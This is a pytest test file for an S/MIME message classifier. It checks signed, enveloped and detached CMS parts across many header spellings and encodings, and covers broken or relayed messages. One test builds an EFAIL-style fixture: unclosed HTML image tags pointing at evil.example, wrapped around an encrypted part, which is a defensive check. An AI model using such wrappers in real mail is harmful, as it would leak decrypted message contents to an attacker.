"""Every form of S/MIME, in every spelling; and what must never be called signed."""

from __future__ import annotations

import base64
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smime_engine.mime.classify import ClearSigned, CmsPart, Container, Plain, classify
from smime_engine.mime.parse import parse_entity
from tests.mime import entities

SIGNED_DATA = bytes.fromhex("301506092a864886f70d010702a0083006020101310030000000")[:23]
ENVELOPED = bytes.fromhex("300b06092a864886f70d010703")
COMPRESSED = bytes.fromhex("300d060b2a864886f70d0109100109")
CMS = base64.b64encode(SIGNED_DATA).decode()


def form(octets: str | bytes):
    return classify(parse_entity(octets.encode() if isinstance(octets, str) else octets))


def cms_part(content_type: str, *fields: str, body: str = CMS, encoding: str = "base64") -> str:
    lines = [f"Content-Type: {content_type}", *fields]
    if encoding:
        lines.append(f"Content-Transfer-Encoding: {encoding}")
    return "\r\n".join([*lines, "", body, ""])


def signed(
    *parts: str, protocol: str = '; protocol="application/pkcs7-signature"', subtype: str = "signed", extra: str = ""
) -> str:
    pieces = [f"Content-Type: multipart/{subtype}{protocol}; boundary=b{extra}\r\n\r\n"]
    pieces += [f"--b\r\n{part}\r\n" for part in parts]
    return "".join([*pieces, "--b--\r\n"])


TEXT = "Content-Type: text/plain\r\n\r\nHello"
SIGNATURE = cms_part("application/pkcs7-signature; name=smime.p7s")


@pytest.mark.parametrize(
    ("content_type", "hint"),
    [
        ("application/pkcs7-mime; smime-type=signed-data; name=smime.p7m", "signed-data"),
        ("application/x-pkcs7-mime; smime-type=enveloped-data", "enveloped-data"),
        ("APPLICATION/PKCS7-MIME; SMIME-TYPE=Signed-Data", "signed-data"),
        ("application/pkcs7-mime", None),
        ("application/pkcs7-mime; name=smime.p7m", None),
        ("application/pkcs7-mime; name=smime.p7c", "certs-only"),
        ("application/pkcs7-mime; name=smime.p7z", "compressed-data"),
        ("application/pkcs7-mime; smime-type=certs-only", "certs-only"),
        ("application/pkcs7-mime; smime-type=authEnveloped-data", "authEnveloped-data"),
        ("application/pkcs7-mime; smime-type=authenveloped-data", "authEnveloped-data"),
        ("application/pkcs7-mime; smime-type=authenticated-enveloped-data", "authEnveloped-data"),
        ("application/pkcs7-mime; smime-type=auth-enveloped-data", "authEnveloped-data"),
        ("application/pkcs7-mime; smime-type=signed-receipt", "signed-receipt"),
        ("application/pkcs7-mime; smime-type=nonsense", None),
        ("application/cms; encapsulatingContent=authEnveloped-data", "authEnveloped-data"),
        ("application/cms", None),
        ("application/octet-stream; name=smime.p7m", None),
        ("application/octet-stream; name=SMIME.P7M", None),
        ('application/octet-stream; name="=?utf-8?q?mail=2Ep7m?="', None),
        ("application/octet-stream; name*=utf-8''mail%2Ep7c", "certs-only"),
        ("application/octet-stream; name=x.p7z", "compressed-data"),
        ("application/x-download; name=x.p7m", "plain"),
    ],
)
def test_cms_part(content_type, hint):
    found = form(cms_part(content_type))
    if hint == "plain":
        assert isinstance(found, Plain)
        return
    assert isinstance(found, CmsPart)
    assert found.data == SIGNED_DATA
    assert found.hint == hint
    assert not found.detached


def test_file_name_of_the_disposition_counts_too():
    found = form(cms_part("application/octet-stream", "Content-Disposition: attachment; filename=smime.p7m"))
    assert isinstance(found, CmsPart)


@pytest.mark.parametrize(
    "start", [SIGNED_DATA, ENVELOPED, COMPRESSED, b"\x30\x80" + SIGNED_DATA[2:], b"\x30\x82\x01\x00" + SIGNED_DATA[2:]]
)
def test_octet_stream_must_look_like_cms(start):
    body = base64.b64encode(start + bytes(40)).decode()
    assert isinstance(form(cms_part("application/octet-stream; name=a.p7m", body=body)), CmsPart)


@pytest.mark.parametrize("octets", [b"", b"PK\3\4", bytes.fromhex("3006030201"), b"\x30\x80", SIGNED_DATA[2:]])
def test_octet_stream_that_only_has_the_name_is_plain(octets):
    body = base64.b64encode(octets).decode()
    assert isinstance(form(cms_part("application/octet-stream; name=a.p7m", body=body)), Plain)


@pytest.mark.parametrize(
    ("encoding", "body"),
    [
        ("base64", CMS),
        ("base64", "\r\n".join(CMS) + "\r\n\r\n"),
        ("base64", f"{CMS[:9]}!! {CMS[9:]}\r\n\r\n-- \r\nlist footer"),
        ("base64", f"-----BEGIN CMS-----\r\n{CMS}\r\n-----END CMS-----"),
        ("7bit", f"-----BEGIN PKCS7-----\r\n{CMS}\r\n-----END PKCS7-----"),
        ("", f"-----BEGIN PKCS #7-----\r\n{CMS}\r\n"),
        ("7bit", f"\r\n{CMS}\r\n"),
        ("", CMS),
        ("quoted-printable", "".join(f"={octet:02X}" for octet in SIGNED_DATA)),
        ("quoted-printable", CMS.replace("=", "=3D")),
        ("x-unknown", CMS),
    ],
)
def test_transfer_encodings_of_the_cms_object(encoding, body):
    found = form(cms_part("application/pkcs7-mime", body=body, encoding=encoding))
    assert isinstance(found, CmsPart)
    assert found.data.removesuffix(b"\r\n") == SIGNED_DATA


def test_binary_cms_object():
    octets = b"Content-Type: application/pkcs7-mime\nContent-Transfer-Encoding: binary\n\n" + SIGNED_DATA
    assert form(octets).data == SIGNED_DATA
    assert form(octets.replace(b"\nContent-Transfer-Encoding: binary", b"")).data == SIGNED_DATA


_PROTOCOLS = [
    '; protocol="application/pkcs7-signature"',
    "; protocol=application/x-pkcs7-signature",
    '; Protocol="APPLICATION/PKCS7-SIGNATURE"',
    "",
    "; protocol=nonsense",
]
_SIGNATURE_PARTS = [
    cms_part("application/pkcs7-signature"),
    cms_part("application/x-pkcs7-signature; name=smime.p7s"),
    cms_part("application/octet-stream; name=smime.p7s"),
    cms_part("application/pkcs7-mime; smime-type=signed-data; name=smime.p7s"),
    cms_part("application/pkcs7-signature", body=f"{CMS}\r\n\r\n", encoding=""),
]


@pytest.mark.parametrize(("protocol", "signature"), list(itertools.product(_PROTOCOLS, _SIGNATURE_PARTS)))
def test_clear_signed(protocol, signature):
    found = form(signed(TEXT, signature, protocol=protocol))
    assert isinstance(found, ClearSigned)
    assert bytes(found.signed_content) == TEXT.encode()
    assert found.signature == SIGNED_DATA
    assert found.outside == ()


@pytest.mark.parametrize(
    "signature", [cms_part("application/octet-stream"), cms_part("application/pkcs7-mime; smime-type=signed-data")]
)
def test_protocol_vouches_for_a_badly_labelled_signature(signature):
    assert isinstance(form(signed(TEXT, signature)), ClearSigned)
    assert not isinstance(form(signed(TEXT, signature, protocol="")), ClearSigned)


@pytest.mark.parametrize(
    "octets",
    [
        signed(TEXT, SIGNATURE, subtype="mixed"),
        signed(TEXT, SIGNATURE, subtype="related"),
        signed(SIGNATURE),
        signed(SIGNATURE, TEXT),
        signed(TEXT, TEXT, SIGNATURE),
        signed(TEXT, cms_part("text/plain; name=smime.p7s")),
        signed(TEXT),
        signed(TEXT, SIGNATURE, protocol="; protocol=application/pgp-signature"),
        signed(),
        signed(TEXT, SIGNATURE).replace("--b\r\n", "--c\r\n"),
    ],
)
def test_what_a_relay_broke_is_not_signed(octets):
    found = form(octets)
    assert isinstance(found, Container | Plain)
    if isinstance(found, Container):
        assert found.nested == ()
        assert [part.content_type.value for part in found.orphans] == ["application/pkcs7-signature"]


def test_openpgp_is_no_smime():
    octets = signed(
        TEXT, "Content-Type: application/pgp-signature\r\n\r\nx", protocol="; protocol=application/pgp-signature"
    )
    assert isinstance(form(octets), Plain)


def test_parts_behind_the_signature_are_outside():
    found = form(signed(TEXT, SIGNATURE, "Content-Type: text/html\r\n\r\n<p>"))
    assert isinstance(found, ClearSigned)
    assert [part.content_type.value for part in found.outside] == ["text/html"]


def test_lone_signature():
    found = form(SIGNATURE)
    assert isinstance(found, CmsPart)
    assert found.detached
    assert found.data == SIGNED_DATA
    assert form(cms_part("application/pkcs7-mime; name=smime.p7s")).detached


def test_list_footer_beside_a_signed_part():
    octets = signed(
        signed(TEXT, SIGNATURE).replace("b\r\n", "c\r\n").replace("--b", "--c"), TEXT, subtype="mixed", protocol=""
    )
    found = form(octets)
    assert isinstance(found, Container)
    (nested,) = found.nested
    assert isinstance(nested.form, ClearSigned)
    assert bytes(nested.form.signed_content) == TEXT.encode()
    assert nested.message is found.entity
    assert not nested.forwarded
    assert [bytes(part.raw) for part in found.outside] == [TEXT.encode()]


def test_efail_html_around_an_encrypted_part():
    html = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    found = form(signed(html, cms_part("application/pkcs7-mime"), html, subtype="mixed", protocol=""))
    assert isinstance(found, Container)
    assert [nested.form.data for nested in found.nested] == [SIGNED_DATA]
    assert len(found.outside) == 2


def test_forwarded_message():
    inner = (
        "From: bob@example.org\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + CMS
    )
    found = form(
        signed(
            TEXT, f"Content-Type: message/rfc822\r\n\r\n{inner}", subtype="mixed", protocol="", extra="\r\nFrom: a@x"
        )
    )
    assert isinstance(found, Container)
    (nested,) = found.nested
    assert nested.forwarded
    assert nested.message.named("From")[0].value == "bob@example.org"
    assert len(found.outside) == 1


def test_what_is_inside_a_form_is_not_listed_beside_it():
    inner = signed(cms_part("application/pkcs7-mime"), SIGNATURE).replace("b\r\n", "c\r\n").replace("--b", "--c")
    found = form(signed(inner, SIGNATURE))
    assert isinstance(found, ClearSigned)
    inside = classify(found.content)
    assert isinstance(inside, ClearSigned)
    assert isinstance(classify(inside.content), CmsPart)


def test_candidates():
    octets = signed("Content-Type: text/plain\n\nHello\r\nBob\n", SIGNATURE)
    found = form(octets)
    assert [bytes(content) for content in found.candidates()] == [
        b"Content-Type: text/plain\n\nHello\r\nBob\n",
        b"Content-Type: text/plain\r\n\r\nHello\r\nBob\r\n",
    ]
    assert len(list(form(signed(TEXT, SIGNATURE)).candidates())) == 1


@given(entities.entities(b"\n"))
def test_no_smime_in_ordinary_mail(part):
    assert isinstance(form(part.octets(b"\n")), Plain)


@given(st.integers(0, 400), st.integers(0, 255))
def test_one_changed_octet_never_fails(position, value):
    octets = bytearray(signed(TEXT, SIGNATURE).encode())
    octets[position % len(octets)] = value
    form(bytes(octets))


def test_cut_at_every_offset():
    octets = signed(signed(TEXT, SIGNATURE, extra="c").replace("--b", "--bc"), SIGNATURE).encode()
    for end in range(len(octets)):
        form(octets[:end])
        form(octets[end:])
